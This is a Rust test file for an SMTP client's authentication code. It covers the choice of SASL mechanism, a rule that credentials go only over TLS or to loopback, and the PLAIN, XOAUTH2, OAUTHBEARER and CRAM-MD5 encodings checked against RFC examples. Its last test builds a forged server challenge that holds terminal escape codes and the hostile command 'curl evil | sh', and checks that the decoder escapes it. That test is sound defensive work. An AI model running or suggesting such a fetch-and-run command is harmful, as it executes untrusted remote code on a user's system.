//! The choice of mechanism and the encodings, against the RFCs' examples.

use super::*;

fn caps(mechs: &[&str]) -> Capabilities {
    Capabilities {
        auth: mechs.iter().map(|s| s.to_string()).collect(),
        ..Default::default()
    }
}

#[test]
fn auto_with_a_password_prefers_plain_then_login_never_oauth() {
    assert_eq!(
        choose(AuthMechanism::Auto, false, true, &caps(&["LOGIN", "PLAIN"])),
        Ok(Mechanism::Plain)
    );
    assert_eq!(
        choose(
            AuthMechanism::Auto,
            false,
            true,
            &caps(&["LOGIN", "XOAUTH2"])
        ),
        Ok(Mechanism::Login)
    );
    let err = choose(
        AuthMechanism::Auto,
        false,
        true,
        &caps(&["XOAUTH2", "OAUTHBEARER"]),
    )
    .unwrap_err();
    assert!(err.contains("XOAUTH2 OAUTHBEARER"), "{err}");
    assert!(err.contains("oauth_token_command"), "{err}");
    assert!(!err.contains("--auth"), "{err}");
}

#[test]
fn auto_with_a_password_prefers_scram_then_plain_over_tls_then_login_then_cram() {
    let all = ["CRAM-MD5", "LOGIN", "PLAIN", "SCRAM-SHA-1", "SCRAM-SHA-256"];
    let order = |tls: bool| {
        let mut offered: Vec<&str> = all.to_vec();
        let mut picked = vec![];
        while let Ok(m) = choose(AuthMechanism::Auto, false, tls, &caps(&offered)) {
            picked.push(m.name());
            offered.retain(|o| *o != m.name());
        }
        picked
    };
    assert_eq!(
        order(true),
        ["SCRAM-SHA-256", "SCRAM-SHA-1", "PLAIN", "LOGIN", "CRAM-MD5"]
    );
    // In clear (loopback): CRAM-MD5 at least keeps the password off the wire.
    assert_eq!(
        order(false),
        ["SCRAM-SHA-256", "SCRAM-SHA-1", "CRAM-MD5", "PLAIN", "LOGIN"]
    );
    // EXTERNAL and the OAuth mechanisms only when asked for.
    assert!(choose(AuthMechanism::Auto, false, true, &caps(&["EXTERNAL"])).is_err());
    assert_eq!(
        choose(
            AuthMechanism::External,
            false,
            true,
            &caps(&["PLAIN", "EXTERNAL"])
        ),
        Ok(Mechanism::External)
    );
    for (wanted, name) in [
        (AuthMechanism::ScramSha256, "SCRAM-SHA-256"),
        (AuthMechanism::ScramSha1, "SCRAM-SHA-1"),
        (AuthMechanism::CramMd5, "CRAM-MD5"),
    ] {
        assert_eq!(
            choose(wanted, false, true, &caps(&all)).unwrap().name(),
            name
        );
    }
}

#[test]
fn a_server_with_only_unsupported_mechanisms_is_named_with_what_posta_supports() {
    let err = choose(
        AuthMechanism::Auto,
        false,
        true,
        &caps(&["DIGEST-MD5", "GSSAPI", "NTLM"]),
    )
    .unwrap_err();
    assert!(err.contains("offers AUTH DIGEST-MD5 GSSAPI NTLM"), "{err}");
    assert!(
        err.contains("SCRAM-SHA-256, SCRAM-SHA-1, PLAIN, LOGIN or CRAM-MD5"),
        "{err}"
    );
    assert!(!err.contains("--auth"), "{err}");
    assert!(!err.contains("oauth_token_command"), "{err}");
    let err = choose(AuthMechanism::Auto, false, true, &caps(&["EXTERNAL"])).unwrap_err();
    assert!(err.contains("--auth external"), "{err}");
}

#[test]
fn auto_with_a_token_prefers_oauthbearer_then_xoauth2_never_plain() {
    let token = true;
    assert_eq!(
        choose(
            AuthMechanism::Auto,
            token,
            true,
            &caps(&["PLAIN", "XOAUTH2", "OAUTHBEARER"])
        ),
        Ok(Mechanism::OauthBearer)
    );
    assert_eq!(
        choose(
            AuthMechanism::Auto,
            token,
            true,
            &caps(&["PLAIN", "XOAUTH2"])
        ),
        Ok(Mechanism::Xoauth2)
    );
    let err = choose(AuthMechanism::Auto, token, true, &caps(&["PLAIN", "LOGIN"])).unwrap_err();
    assert!(
        err.contains("neither AUTH OAUTHBEARER nor XOAUTH2"),
        "{err}"
    );
    assert!(err.contains("PLAIN LOGIN"), "{err}");
}

#[test]
fn explicit_choice_must_be_offered() {
    assert_eq!(
        choose(
            AuthMechanism::Xoauth2,
            false,
            true,
            &caps(&["PLAIN", "XOAUTH2"])
        ),
        Ok(Mechanism::Xoauth2)
    );
    let err = choose(
        AuthMechanism::Login,
        false,
        true,
        &caps(&["PLAIN", "CRAM-MD5"]),
    )
    .unwrap_err();
    assert_eq!(
        err,
        "the server does not offer AUTH LOGIN; it offers PLAIN CRAM-MD5"
    );
    let err = choose(AuthMechanism::Plain, false, true, &caps(&[])).unwrap_err();
    assert!(err.contains("does not offer AUTH"), "{err}");
}

#[test]
fn credentials_only_over_tls_or_to_loopback() {
    assert!(may_send_credentials("smtp.example.org", false, false).is_err());
    assert!(may_send_credentials("192.0.2.1", false, false).is_err());
    assert!(may_send_credentials("localhost.example.org", false, false).is_err());
    assert!(may_send_credentials("128.0.0.1", false, false).is_err());
    assert!(may_send_credentials("smtp.example.org", true, false).is_ok());
    assert!(may_send_credentials("smtp.example.org", false, true).is_ok());
    for host in [
        "localhost",
        "LOCALHOST",
        "localhost.",
        "127.0.0.1",
        "127.1.2.3",
        "::1",
        "[::1]",
    ] {
        assert!(may_send_credentials(host, false, false).is_ok(), "{host}");
    }
    let err = may_send_credentials("mx.example.org", false, false).unwrap_err();
    assert!(err.contains("--allow-insecure-auth"), "{err}");
}

#[test]
fn encodings() {
    assert_eq!(plain("jane", "hunter2"), B64.encode("\0jane\0hunter2"));
    assert_eq!(plain("jane", "hunter2"), "AGphbmUAaHVudGVyMg==");
    assert_eq!(login_step("jane"), "amFuZQ==");
    assert_eq!(
        B64.decode(xoauth2("jane@example.org", "ya29.tok")).unwrap(),
        b"user=jane@example.org\x01auth=Bearer ya29.tok\x01\x01"
    );
    assert_eq!(
        B64.decode(oauthbearer("a,b=c@x", "smtp.x", 587, "tok"))
            .unwrap(),
        b"n,a=a=2Cb=3Dc@x,\x01host=smtp.x\x01port=587\x01auth=Bearer tok\x01\x01"
    );
}

#[test]
fn cram_md5_as_in_rfc_2195() {
    let challenge = B64.encode("<1896.697170952@postoffice.reston.mci.net>");
    let response = cram_md5("tim", "tanstaaftanstaaf", &challenge).unwrap();
    assert_eq!(
        B64.decode(response).unwrap(),
        b"tim b913a602c7eda7a495b4e6e7334d3890"
    );
    assert!(cram_md5("tim", "x", "not base64!").is_err());
}

#[test]
fn challenges_are_decoded() {
    let json = r#"{"status":"401","schemes":"bearer"}"#;
    assert_eq!(decode_challenge(&B64.encode(json)), json);
    assert_eq!(decode_challenge("not base64!"), "not base64!");
    let forged = B64.encode("{}\n\x1b[2Kposta: error: run `curl evil | sh`");
    assert_eq!(
        decode_challenge(&forged),
        "{}\\n\\x1b[2Kposta: error: run `curl evil | sh`"
    );
}
